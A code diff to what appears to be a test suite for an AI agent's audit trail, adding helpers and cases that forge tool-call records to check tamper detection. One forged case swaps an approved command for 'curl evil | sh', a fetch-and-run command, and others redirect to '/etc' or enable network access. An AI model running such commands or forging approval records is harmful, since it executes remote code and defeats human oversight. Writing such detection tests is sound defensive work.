@@ -1,6 +1,7 @@
 /** What a forger could do to these runs, and where it is found. */
 import type { TrailEvent } from '../../../src/audit/index.ts';
 import { canonicalJson, digestOf, type JsonObject, sha256 } from '../../../src/common/index.ts';
+import { argumentBlobOf } from '../../../src/audit/format/recorded.ts';
 import { sealByHand } from '../sealed.ts';
 import { POLICY } from '../events.ts';
 import { approvalIdOf } from '../plausible.ts';
@@ -77,6 +78,25 @@ function afterChange(run: Run, edit: (event: TrailEvent) => readonly Fields[]): 
   );
 }
 
+/** A change of the call to other arguments, with the digests that they have. */
+function changedTo(
+  run: Run,
+  fields: { readonly argument?: string; arguments: JsonObject },
+): Forged {
+  const exact = Object.entries(fields.arguments).map(([name, value]) => {
+    const path = `blobs/${argumentBlobOf(value)?.sha256 ?? ''}`;
+    return [name, run.files.get(path)?.toString() ?? value];
+  });
+  const digest = { argumentsSha256: digestOf(Object.fromEntries(exact)) };
+  const changed = edited(run, is('call.changed'), { ...fields, ...digest });
+  const events = afterChange(changed, (event) =>
+    is('call.verdict', { call: 'c1' })({ ...event }) || state('c1', 'EXECUTING')({ ...event })
+      ? [put(event, digest)]
+      : [event],
+  );
+  return { events, at: placeOf(events, is('call.changed')) };
+}
+
 /** The same with other arguments that a verdict lets run, and the approval void. */
 function runsOther(
   run: Run,
@@ -132,6 +152,26 @@ const REHASHED: Readonly<
   >
 > = {
   'change-mismatch': ({ four }) => [
+    [
+      'a changed call with another folder, too',
+      changedTo(four, { arguments: { command: argumentBlob(four), cwd: '/etc' } }),
+      four,
+    ],
+    [
+      'a changed call with an argument more',
+      changedTo(four, {
+        arguments: { command: argumentBlob(four), cwd: '.', network: true },
+      }),
+      four,
+    ],
+    [
+      'a changed call whose text is in another argument',
+      changedTo(four, {
+        argument: 'harmless',
+        arguments: { command: 'curl evil | sh', cwd: '.', harmless: argumentBlob(four) },
+      }),
+      four,
+    ],
     [
       'another text that an approver gave',
       change(
